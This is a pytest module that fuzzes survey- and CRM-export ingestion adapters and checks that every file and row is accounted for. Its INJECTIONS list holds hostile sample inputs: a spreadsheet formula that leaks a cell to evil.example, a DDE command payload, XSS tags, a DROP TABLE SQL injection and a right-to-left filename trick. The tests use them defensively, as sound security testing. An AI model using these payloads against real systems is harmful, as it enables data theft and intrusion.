"""Hostile and broken input: every adapter fuzzed with hypothesis, and the classic attacks by hand.

The promise under test (DESIGN.md, "Sources"): whatever lands, the run never crashes and nothing is
dropped silently. Every file gets exactly one ledger row, `loaded` or `rejected` (with its reason);
for a loaded file every record is exactly one of an event, a filtered row or a quarantined row, so
rows_loaded + rows_filtered + rows_quarantined equals the number of records we wrote.

The default run tries 200 inputs per adapter (csv, parquet, jsonl, qualtrics, delighted,
salesforce); `-m slow` tries 2,000 each. Each adapter reuses one warehouse, emptied between inputs.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from metrics.config import REPO_ROOT
from metrics.sources import SourcesConfig, validate_sources
from metrics.store.warehouse import connect, ensure_schema
from pipelines.ingestion import ingest_files

NOW = datetime(2025, 5, 1, 12, 0, 0)
DEFAULT_EXAMPLES = 200
SLOW_EXAMPLES = 2000

#: adapter -> (source, sources.yaml entry)
ADAPTERS: dict[str, tuple[str, dict]] = {
    "csv": ("nps", {"format": "csv"}),
    "parquet": ("nps", {"format": "parquet"}),
    "jsonl": ("nps", {"format": "jsonl"}),
    "qualtrics": ("nps", {"format": "qualtrics", "columns": {"unit": "Unit", "score": "Q1"}}),
    "delighted": ("ces", {"format": "delighted", "columns": {"unit": "person_properties.Region"}}),
    "salesforce": ("upsell", {"format": "salesforce", "columns": {"unit": "Region"}}),
}

#: Spreadsheet formulas (CSV injection), markup, SQL and odd characters: all must stay plain text.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "**bold** [link](javascript:alert(1)) :red[red]",
    "'; DROP TABLE events.nps; --",
    "$$ $x$ \\(",
    "\u202etxt.exe",
    "🙂 emoji",
    "a\nb",
    "a\r\nb",
    'say "hi", then; leave\t|',
    "  padded  ",
    "",
    "NULL",
    "all",
]

DATES = ["2025-03-01", "2025-03-01 10:00:00", "2025-03-01T10:00:00+02:00", "1741000000", "3/4/25"]


def values(valid: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Mostly a plausible value, often a hostile one, sometimes arbitrary text or a long field."""
    return st.one_of(
        valid,
        valid,
        st.sampled_from(INJECTIONS),
        st.text(max_size=20),
        st.text(alphabet="x,;\"'\n\r\t ", max_size=12),
        st.text(alphabet="ab", min_size=2000, max_size=6000),
    )


SCORE = values(st.integers(-2, 12).map(str))
DATE = values(st.sampled_from(DATES))
UNIT = values(st.sampled_from(["Sales", "Support", " Sales ", "Nordic"]))
ID = values(st.from_regex(r"R_[A-Za-z0-9]{1,6}", fullmatch=True))
TEXT = values(st.sampled_from(["fine", "slow answer", "call me at +49 170 1234567"]))

NPS_ROW = st.fixed_dictionaries(
    {
        "response_id": ID,
        "responded_at": DATE,
        "unit": UNIT,
        "score": SCORE,
        "account_id": TEXT,
        "comment": TEXT,
    }
)


def _csv_text(header: list[str], rows: list[list[str]], extra_header_rows=()) -> str:
    out = io.StringIO()
    # "\r\n" as the terminator makes the writer quote a field holding either character (with
    # "\n" alone, Python 3.11 writes a bare "\r" unquoted: a line break to every other reader)
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    for row in extra_header_rows:
        writer.writerow(row)
    writer.writerows(rows)
    return out.getvalue()


# --- structured inputs per adapter: (file bytes, number of records written) ----------------------


@st.composite
def csv_file(draw) -> tuple[bytes, int]:
    rows = draw(st.lists(NPS_ROW, max_size=12))
    header = ["response_id", "responded_at", "unit", "score", "account_id", "comment"]
    return _csv_text(header, [[r[h] for h in header] for r in rows]).encode(), len(rows)


@st.composite
def qualtrics_file(draw) -> tuple[bytes, int]:
    rows = draw(st.lists(NPS_ROW, max_size=12))
    statuses = draw(
        st.lists(values(st.sampled_from(["0", "1", "IP Address", "Spam"])), min_size=12)
    )
    header = ["StartDate", "RecordedDate", "Status", "ResponseId", "Unit", "Q1", "Q2"]
    labels = ["Start Date", "Recorded Date", "Response Type", "Response ID", "Unit", "NPS", "Why?"]
    import_ids = [json.dumps({"ImportId": h}) for h in header]
    import_ids[1] = json.dumps({"ImportId": "recordedDate", "timeZone": "America/Denver"})
    data = [
        [r["responded_at"], r["responded_at"], statuses[i], r["response_id"], r["unit"]]
        + [r["score"], r["comment"]]
        for i, r in enumerate(rows)
    ]
    return _csv_text(header, data, (labels, import_ids)).encode(), len(rows)


SF_FOOTER = ("Grand Totals (", "Confidential Information", "Copyright ")


@st.composite
def salesforce_file(draw) -> tuple[bytes, int]:
    row = st.fixed_dictionaries(
        {
            "Id": ID.filter(lambda v: not v.lstrip().startswith(SF_FOOTER)),
            "CloseDate": values(st.sampled_from(["2025-03-01", "03/04/2025", "2025-13-01"])),
            "Amount": values(st.sampled_from(["1200", "USD 1,200.50", "-5", "€30", "1e3"])),
            "AccountId": TEXT,
            "IsWon": values(st.sampled_from(["1", "0", "", "true"])),
            "StageName": values(st.sampled_from(["Closed Won", "Closed Lost", "Prospecting"])),
            "Type": values(st.sampled_from(["Existing Customer - Upgrade", "New Customer"])),
            "Region": UNIT,
        }
    )
    rows = draw(st.lists(row, max_size=12))
    header = ["Id", "CloseDate", "Amount", "AccountId", "IsWon", "StageName", "Type", "Region"]
    return _csv_text(header, [[r[h] for h in header] for r in rows]).encode(), len(rows)


JSON_VALUE = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-20, 2_000_000_000)
    | st.floats()
    | st.text(max_size=15),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3)
    ),
    max_leaves=12,
)


def _json_field(valid: st.SearchStrategy[str]) -> st.SearchStrategy:
    return st.one_of(values(valid), JSON_VALUE)


@st.composite
def jsonl_file(draw) -> tuple[bytes, int]:
    row = st.fixed_dictionaries(
        {
            "response_id": _json_field(st.from_regex(r"R_[a-z0-9]{1,6}", fullmatch=True)),
            "responded_at": _json_field(st.sampled_from(DATES)),
            "unit": _json_field(st.sampled_from(["Sales", "Support"])),
            "score": st.one_of(st.integers(-2, 12), _json_field(st.sampled_from(["7", "10"]))),
        },
        optional={"comment": _json_field(st.just("ok")), "extra": JSON_VALUE},
    )
    rows = draw(st.lists(row, max_size=12))
    text = "".join(json.dumps(r) + "\n" for r in rows)
    return text.encode(), len(rows)


@st.composite
def delighted_file(draw) -> tuple[bytes, int]:
    response = st.fixed_dictionaries(
        {
            "id": st.one_of(st.integers(1, 10**9), _json_field(st.just("123"))),
            "created_at": st.one_of(st.integers(1_700_000_000, 1_760_000_000), JSON_VALUE),
            "score": st.one_of(st.integers(0, 9), JSON_VALUE),
            "comment": _json_field(st.just("thanks")),
            "person": st.one_of(
                st.integers(1, 999), st.fixed_dictionaries({"id": st.integers(1, 999)}), JSON_VALUE
            ),
            "person_properties": st.one_of(
                st.fixed_dictionaries({"Region": _json_field(st.sampled_from(["EU", "US"]))}),
                JSON_VALUE,
            ),
        },
        optional={"updated_at": st.integers(1_700_000_000, 1_760_000_000)},
    )
    objects = draw(
        st.lists(st.one_of(response, st.builds(lambda r: {"event_data": r}, response)), max_size=12)
    )
    if draw(st.booleans()):
        return json.dumps(objects).encode(), len(objects)  # an API list (a JSON array)
    return "".join(json.dumps(o) + "\n" for o in objects).encode(), len(objects)


@st.composite
def parquet_file(draw) -> tuple[bytes, int]:
    rows = draw(st.lists(NPS_ROW, max_size=12))
    columns = ["response_id", "responded_at", "unit", "score", "account_id", "comment"]
    typed = draw(st.booleans())
    data = {}
    for col in columns:
        texts = [r[col] for r in rows]
        if typed and col == "score":  # a real integer column with nulls for what is not a number
            data[col] = pa.array([int(v) if v.lstrip("-").isdigit() else None for v in texts])
        else:
            data[col] = pa.array(texts, type=pa.string())
    sink = pa.BufferOutputStream()
    pq.write_table(pa.table(data), sink)
    return sink.getvalue().to_pybytes(), len(rows)


STRUCTURED: dict[str, Callable[[], st.SearchStrategy[tuple[bytes, int]]]] = {
    "csv": csv_file,
    "qualtrics": qualtrics_file,
    "salesforce": salesforce_file,
    "jsonl": jsonl_file,
    "delighted": delighted_file,
    "parquet": parquet_file,
}


@st.composite
def inputs(draw, adapter: str) -> tuple[bytes, int | None]:
    """A file for `adapter` and its number of records (None when that cannot be known)."""
    content, records = draw(STRUCTURED[adapter]())
    kind = draw(st.sampled_from(["as is", "as is", "cp1252", "truncated", "random", "nul"]))
    if kind == "cp1252" and adapter != "parquet":
        return content.decode().encode("cp1252", errors="replace"), records
    if kind == "truncated":
        return content[: draw(st.integers(0, max(len(content) - 1, 0)))], None
    if kind == "random":
        return draw(st.binary(max_size=600)), None
    if kind == "nul" and content:
        at = draw(st.integers(0, len(content) - 1))
        return content[:at] + b"\x00" + content[at:], None
    return content, records


# --- the judge ----------------------------------------------------------------------------------


def _config(adapter: str, **top) -> SourcesConfig:
    source, entry = ADAPTERS[adapter]
    cfg, problems = validate_sources({"sources": {source: entry}, **top})
    assert not problems and cfg is not None, problems
    return cfg


def _reset(con: duckdb.DuckDBPyConnection, source: str) -> None:
    con.execute("DELETE FROM ops.file_ledger")
    con.execute("DELETE FROM ops.quarantine")
    con.execute(f'DELETE FROM events."{source}"')


def judge(con, adapter: str, path: Path, records: int | None, cfg=None):
    """Ingest one file and check that it is fully accounted for; returns its outcome."""
    source = ADAPTERS[adapter][0]
    _reset(con, source)
    outcomes = ingest_files(con, source, [path], cfg or _config(adapter), dimensions=[], now=NOW)
    assert len(outcomes) == 1, outcomes
    [o] = outcomes
    ledger = con.execute(
        "SELECT status, rows_loaded, rows_filtered, rows_quarantined, error FROM ops.file_ledger"
    ).fetchall()
    assert ledger == [(o.status, o.rows_loaded, o.rows_filtered, o.rows_quarantined, o.error)]
    events = con.execute(f'SELECT count(*) FROM events."{source}"').fetchone()[0]
    quarantine = con.execute(
        "SELECT count(*), count(*) FILTER (WHERE reason IS NULL OR reason = '' OR record IS NULL) "
        "FROM ops.quarantine"
    ).fetchone()
    if o.status == "rejected":
        assert o.error and str(path) in o.error, o.error
        assert (o.rows_loaded, o.rows_filtered, o.rows_quarantined, events) == (0, 0, 0, 0)
        assert quarantine == (0, 0)
    else:
        assert o.status == "loaded", o
        assert o.error is None
        assert min(o.rows_loaded, o.rows_filtered, o.rows_quarantined) >= 0
        assert events == o.rows_loaded
        assert quarantine == (o.rows_quarantined, 0)  # every quarantined row has its reason
        if records is not None:
            assert o.rows_loaded + o.rows_filtered + o.rows_quarantined == records, o
    return o


@pytest.fixture(scope="module")
def warehouses(tmp_path_factory):
    """One warehouse per adapter for the whole module (an input is judged on an emptied one)."""
    root = tmp_path_factory.mktemp("fuzz")
    opened: dict[str, duckdb.DuckDBPyConnection] = {}

    def get(adapter: str) -> tuple[duckdb.DuckDBPyConnection, Path]:
        if adapter not in opened:
            con = connect(root / f"{adapter}.duckdb", memory_limit="1GB", threads=1)
            ensure_schema(con)
            opened[adapter] = con
        (root / adapter).mkdir(exist_ok=True)
        return opened[adapter], root / adapter

    yield get
    for con in opened.values():
        con.close()


def _fuzz(warehouses, adapter: str, examples: int) -> None:
    con, folder = warehouses(adapter)
    cfg = _config(adapter)
    suffix = {"parquet": ".parquet", "jsonl": ".jsonl", "delighted": ".json"}.get(adapter, ".csv")
    path = folder / f"export{suffix}"

    @settings(
        max_examples=examples,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(inputs(adapter))
    def run(case: tuple[bytes, int | None]) -> None:
        content, records = case
        path.write_bytes(content)
        judge(con, adapter, path, records, cfg)

    run()


@pytest.mark.parametrize("adapter", sorted(ADAPTERS))
def test_fuzzed_files_are_always_accounted_for(warehouses, adapter):
    _fuzz(warehouses, adapter, DEFAULT_EXAMPLES)


@pytest.mark.slow
@pytest.mark.timeout(1800)  # ten times the examples of the test above: minutes per adapter
@pytest.mark.parametrize("adapter", sorted(ADAPTERS))
def test_fuzzed_files_are_always_accounted_for_at_length(warehouses, adapter):
    _fuzz(warehouses, adapter, SLOW_EXAMPLES)


# --- the classic attacks, one by one, with exact counts -------------------------------------------

HEADER = "response_id,responded_at,unit,score,account_id,comment\n"


def _row(i: int, comment: str = "ok", unit: str = "Sales") -> str:
    return f"r{i},2025-03-01 10:00:00,{unit},{i % 11},a{i},{comment}\n"


@pytest.fixture
def wh(warehouses):
    return warehouses("csv")


def test_a_truncated_export_loads_its_whole_rows_and_quarantines_the_cut_one(wh):
    con, folder = wh
    text = HEADER + "".join(_row(i) for i in range(100))
    cut = text.rindex("r99,") + len("r99,2025-03-01 10:00:00,Sales,")  # the upload stopped here
    path = folder / "truncated.csv"
    path.write_text(text[:cut])
    o = judge(con, "csv", path, 100)
    assert (o.rows_loaded, o.rows_filtered, o.rows_quarantined) == (99, 0, 1)
    assert con.execute("SELECT row_number, reason FROM ops.quarantine").fetchall() == [
        (101, "score is empty")
    ]


def test_a_windows_1252_export_loads_with_euro_signs_and_curly_quotes(wh):
    con, folder = wh
    text = HEADER + _row(1, "Café “schnell” 5€ – danke") + _row(2, unit="Zürich")
    path = folder / "excel.csv"
    path.write_bytes(text.encode("cp1252"))
    o = judge(con, "csv", path, 2)
    assert (o.rows_loaded, o.rows_quarantined) == (2, 0)
    assert con.execute("SELECT unit, comment FROM events.nps ORDER BY response_id").fetchall() == [
        ("Sales", "Café “schnell” 5€ – danke"),
        ("Zürich", "ok"),
    ]


def test_a_huge_field_below_the_line_limit_loads_whole(wh):
    con, folder = wh
    big = "x" * 1_500_000
    path = folder / "big_field.csv"
    path.write_text(HEADER + _row(1, big) + _row(2))
    o = judge(con, "csv", path, 2)
    assert o.rows_loaded == 2
    assert con.execute("SELECT max(length(comment)) FROM events.nps").fetchone() == (1_500_000,)


def test_a_field_beyond_the_line_limit_rejects_the_file_with_a_short_clear_reason(wh):
    con, folder = wh
    path = folder / "huge_field.csv"
    path.write_text(HEADER + _row(1, "x" * 5_000_000) + _row(2))
    o = judge(con, "csv", path, None)
    assert o.status == "rejected"
    assert "Maximum line size of 2000000 bytes exceeded" in o.error
    assert len(o.error) < 1000  # DuckDB quotes the 5 MB line; the ledger keeps 300 characters


def test_formula_and_markup_strings_are_stored_as_plain_text(wh):
    con, folder = wh
    rows = [[f"r{i}", "2025-03-01", text, "3", "acc", text] for i, text in enumerate(INJECTIONS)]
    path = folder / "injection.csv"
    path.write_text(_csv_text(HEADER.strip().split(","), rows))
    o = judge(con, "csv", path, len(INJECTIONS))
    # as a unit, "" is empty and "all" is reserved: quarantined; every other string is an event
    assert (o.rows_loaded, o.rows_filtered, o.rows_quarantined) == (len(INJECTIONS) - 2, 0, 2)
    assert sorted(r for (r,) in con.execute("SELECT reason FROM ops.quarantine").fetchall()) == [
        "unit 'all' is reserved for the whole organisation; rename it or map it under unit_aliases",
        "unit is empty",
    ]
    stored = dict(con.execute("SELECT response_id, comment FROM events.nps").fetchall())
    for i, text in enumerate(INJECTIONS):
        if text not in ("", "all"):
            assert stored[f"r{i}"] == text  # verbatim: never evaluated, trimmed nor escaped
    units = {u for (u,) in con.execute("SELECT unit FROM events.nps").fetchall()}
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"click me")' in units
    assert "padded" in units  # units alone are trimmed (DESIGN.md)


def test_nul_bytes_reject_a_binary_looking_file_and_are_kept_further_in(wh):
    con, folder = wh
    early = folder / "nul_early.csv"
    early.write_bytes((HEADER + _row(1)).encode() + b"r2,2025-03-01,Sales,5,a,b\x00c\n")
    o = judge(con, "csv", early, None)
    assert o.status == "rejected" and "binary file" in o.error
    # past the first 64 KB the reader keeps the NUL inside its text value
    late = folder / "nul_late.csv"
    late.write_bytes(
        (HEADER + "".join(_row(i) for i in range(3000))).encode()
        + b"r9999,2025-03-01,Sales,5,a,b\x00c\n"
    )
    o = judge(con, "csv", late, 3001)
    assert (o.rows_loaded, o.rows_quarantined) == (3001, 0)


def test_deeply_nested_json_loads_and_unclosed_nesting_is_rejected(warehouses):
    con, folder = warehouses("jsonl")
    good = '{"response_id":"r2","responded_at":"2025-03-01","unit":"A","score":5}\n'
    deep = folder / "deep.jsonl"
    deep.write_text(
        '{"response_id":"r1","responded_at":"2025-03-01","unit":"A","score":5,"x":'
        + "[" * 100_000
        + "]" * 100_000
        + "}\n"
        + good
    )
    o = judge(con, "jsonl", deep, 2)
    assert (o.rows_loaded, o.rows_quarantined) == (2, 0)
    unclosed = folder / "unclosed.jsonl"
    unclosed.write_text('{"response_id":"r1","x":' + "[" * 100_000 + "\n" + good)
    o = judge(con, "jsonl", unclosed, None)
    assert o.status == "rejected" and "Malformed JSON" in o.error


def test_max_file_mb_rejects_an_oversized_file_without_reading_it(wh):
    con, folder = wh
    cfg = _config("csv", max_file_mb=0.002)  # 2,097 bytes
    small, large = folder / "small.csv", folder / "large.csv"
    small.write_text(HEADER + "".join(_row(i) for i in range(10)))
    large.write_text(HEADER + "".join(_row(i) for i in range(100)))
    assert (small.stat().st_size, large.stat().st_size) == (425, 3944)
    assert judge(con, "csv", small, 10, cfg).rows_loaded == 10
    o = judge(con, "csv", large, None, cfg)
    assert o.status == "rejected"
    assert o.error == (
        f"{large}: 0 MB is larger than max_file_mb = 0.002 in sources.yaml; "
        "not read (split the export or raise the limit)"
    )
    assert o.sha256 == ""  # not even hashed


#: A 2 MB line of 1M columns, ingested beside a normal file under a 512 MB memory_limit, in a
#: process capped at 3 GB of address space (should DuckDB ever ignore its limit, the child dies,
#: not the test runner).
WIDE_SCRIPT = r"""
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))
from datetime import datetime
from pathlib import Path
from metrics.sources import validate_sources
from metrics.store.warehouse import connect, ensure_schema
from pipelines.ingestion import ingest_files

folder = Path(sys.argv[1])
cfg, _ = validate_sources({})
con = connect(folder / "wh.duckdb", memory_limit="512MB", threads=2)
ensure_schema(con)
files = [folder / "wide_header.csv", folder / "wide_row.csv", folder / "fine.csv"]
for o in ingest_files(con, "nps", files, cfg, dimensions=[], now=datetime(2025, 5, 1)):
    print(o.status, o.rows_loaded, o.rows_quarantined, (o.error or "")[:160].replace("\n", " "))
"""


def test_a_line_of_a_million_columns_is_a_clean_rejection_under_the_memory_limit(tmp_path):
    (tmp_path / "wide_header.csv").write_bytes(b"," * 1_000_000 + b"\n1\n")
    (tmp_path / "wide_row.csv").write_bytes(
        (HEADER + "r1,2025-03-01,A,5,a,").encode() + b"," * 1_000_000 + b"\n" + _row(2).encode()
    )
    (tmp_path / "fine.csv").write_text(HEADER + _row(1) + _row(2))
    script = tmp_path / "wide.py"
    script.write_text(WIDE_SCRIPT)
    done = subprocess.run(
        [sys.executable, str(script), str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=180,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
    )
    assert done.returncode == 0, done.stderr[-2000:]
    lines = done.stdout.splitlines()
    assert len(lines) == 3
    for line in lines[:2]:
        status, loaded, quarantined, error = line.split(" ", 3)
        assert (status, loaded, quarantined) == ("rejected", "0", "0")
        assert "Out of Memory Error" in error or "column" in error.lower(), error
    assert lines[2] == "loaded 2 0 "  # the run went on with the next file
